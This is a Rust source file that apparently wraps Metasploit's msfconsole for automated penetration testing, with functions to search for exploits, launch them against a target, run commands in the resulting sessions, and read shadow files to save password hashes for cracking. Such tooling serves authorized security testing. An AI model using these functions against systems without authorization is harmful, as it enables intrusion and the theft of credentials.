//! Exploitation console (`msfconsole`)
//!
//! Search and session listing are one-shot `-x` console strings run to
//! completion. Exploit launches and session commands go through a resource
//! script under a bounded wait, because the console may sit on a network
//! socket indefinitely; whatever it printed before the deadline is parsed.

use super::{non_blank, run_for_stdout};
use crate::config::Config;
use crate::error::ToolError;
use crate::models::{
    CommandOutput, ExploitModule, ExploitResult, ExploitSession, HashExtraction,
};
use crate::parsers::{
    parse_credentials, parse_exploit_session, parse_search, parse_sessions, render_hash_file,
};
use crate::registry::JobRegistry;
use crate::tools::{
    validate_port, LifecyclePolicy, ModuleName, ProcessRunner, ResourceScript, SafeIdentifier,
    SafePath, SearchTerm, SessionId, SingleLineCommand, ToolInvocation,
};
use std::path::PathBuf;
use std::sync::Arc;
use tracing::{debug, info, warn};

const TOOL: &str = "msfconsole";

#[derive(Clone)]
pub struct MetasploitService {
    runner: Arc<dyn ProcessRunner>,
    msfconsole: String,
    registry: JobRegistry,
    sync_policy: LifecyclePolicy,
    exploit_policy: LifecyclePolicy,
    session_policy: LifecyclePolicy,
    default_port: u16,
    default_payload: String,
    default_shadow_path: String,
    loot_dir: PathBuf,
}

impl MetasploitService {
    pub fn new(runner: Arc<dyn ProcessRunner>, config: &Config, registry: JobRegistry) -> Self {
        Self {
            runner,
            msfconsole: config.tools.msfconsole.clone(),
            registry,
            sync_policy: config.timeouts.sync_policy(),
            exploit_policy: config.timeouts.exploit_policy(),
            session_policy: config.timeouts.session_policy(),
            default_port: config.defaults.exploit_port,
            default_payload: config.defaults.payload.clone(),
            default_shadow_path: config.defaults.shadow_path.clone(),
            loot_dir: config.cracking.loot_dir.clone(),
        }
    }

    fn console(&self, policy: LifecyclePolicy) -> ToolInvocation {
        ToolInvocation::new(TOOL, &self.msfconsole, policy).arg("-q")
    }

    /// Modules matching `query`
    pub async fn search_exploits(&self, query: &str) -> Result<Vec<ExploitModule>, ToolError> {
        let query = SearchTerm::parse(query, "query")?;
        let invocation = self
            .console(self.sync_policy)
            .args(["-x".to_string(), format!("search {}; exit", query)]);

        let stdout = run_for_stdout(self.runner.as_ref(), invocation).await?;
        let modules = parse_search(&stdout);
        info!(query = %query, count = modules.len(), "Exploit search finished");
        Ok(modules)
    }

    /// Launch `module` against `target` and report the session it opened, if any
    ///
    /// Reaching the deadline is not a failure: the console is killed and the
    /// partial transcript is searched for a session id.
    pub async fn run_exploit(
        &self,
        module: &str,
        target: &str,
        port: Option<u32>,
        payload: Option<&str>,
    ) -> Result<ExploitResult, ToolError> {
        let module = ModuleName::parse(module, "exploit_name")?;
        let target = SafeIdentifier::parse(target, "rhosts")?;
        let port = validate_port(port.unwrap_or(u32::from(self.default_port)), "rport")?;
        let payload = ModuleName::parse(
            non_blank(payload).unwrap_or(&self.default_payload),
            "payload",
        )?;

        let script = ResourceScript::exploit(&module, &target, port, &payload).write_scratch()?;
        let invocation = self.console(self.exploit_policy).args(["-r".to_string(), script.arg()]);

        info!(module = %module, target = %target, port, "Launching exploit");
        let outcome = self.runner.run(invocation).await;
        drop(script);
        let outcome = outcome?;

        let timed_out = outcome.timed_out();
        let output = outcome.into_output();
        let session_id = parse_exploit_session(&output.stdout);

        match session_id {
            Some(id) => {
                self.registry
                    .record_session(id, module.as_str(), target.as_str())
                    .await;
                info!(session_id = id, "Exploit opened a session");
            }
            None if timed_out => warn!("Exploit hit its deadline without opening a session"),
            None => info!("Exploit finished without opening a session"),
        }

        Ok(ExploitResult {
            success: session_id.is_some(),
            session_id,
            output: output.stdout,
            error: output.stderr,
            timed_out,
        })
    }

    /// Sessions currently held by the console
    pub async fn list_sessions(&self) -> Result<Vec<ExploitSession>, ToolError> {
        let invocation = self.console(self.sync_policy).args(["-x", "sessions -l; exit"]);
        let stdout = run_for_stdout(self.runner.as_ref(), invocation).await?;
        let sessions = parse_sessions(&stdout);
        debug!(count = sessions.len(), "Listed sessions");
        Ok(sessions)
    }

    /// Run one command inside session `session_id`
    pub async fn run_session_command(
        &self,
        session_id: &str,
        command: &str,
    ) -> Result<CommandOutput, ToolError> {
        let session = SessionId::parse(session_id, "session_id")?;
        let command = SingleLineCommand::parse(command, "command")?;
        self.session_command(&session, &command).await
    }

    async fn session_command(
        &self,
        session: &SessionId,
        command: &SingleLineCommand,
    ) -> Result<CommandOutput, ToolError> {
        let script = ResourceScript::session_command(session, command).write_scratch()?;
        let invocation = self.console(self.session_policy).args(["-r".to_string(), script.arg()]);

        info!(session = %session, "Running command in session");
        let outcome = self.runner.run(invocation).await;
        drop(script);
        let outcome = outcome?;

        let timed_out = outcome.timed_out();
        if timed_out {
            warn!(session = %session, "Session command hit its deadline");
        }
        Ok(CommandOutput {
            output: outcome.into_output().stdout,
            timed_out,
        })
    }

    /// Read a shadow file through `session_id` and save its crypt hashes
    ///
    /// The hashes are written as `username:hash` lines to
    /// `<loot_dir>/hashes_session_<id>.txt`, ready for cracking. When nothing
    /// was extracted the file is left as it was.
    pub async fn extract_credentials(
        &self,
        session_id: &str,
        shadow_path: Option<&str>,
    ) -> Result<HashExtraction, ToolError> {
        let session = SessionId::parse(session_id, "session_id")?;
        let path = SafePath::parse(
            non_blank(shadow_path).unwrap_or(&self.default_shadow_path),
            "shadow_path",
        )?;
        let command = SingleLineCommand::parse(&format!("cat {}", path), "command")?;

        let output = self.session_command(&session, &command).await?;
        let hashes = parse_credentials(&output.output);

        let file = self.loot_dir.join(format!("hashes_session_{}.txt", session));
        if hashes.is_empty() {
            warn!(
                session = %session,
                timed_out = output.timed_out,
                file = %file.display(),
                "No credential hashes extracted; keeping existing artifact"
            );
        } else {
            tokio::fs::create_dir_all(&self.loot_dir).await?;
            tokio::fs::write(&file, render_hash_file(&hashes)).await?;
        }

        info!(
            session = %session,
            count = hashes.len(),
            file = %file.display(),
            "Extracted credential hashes"
        );

        Ok(HashExtraction {
            success: true,
            count: hashes.len(),
            hashes,
            file,
        })
    }
}
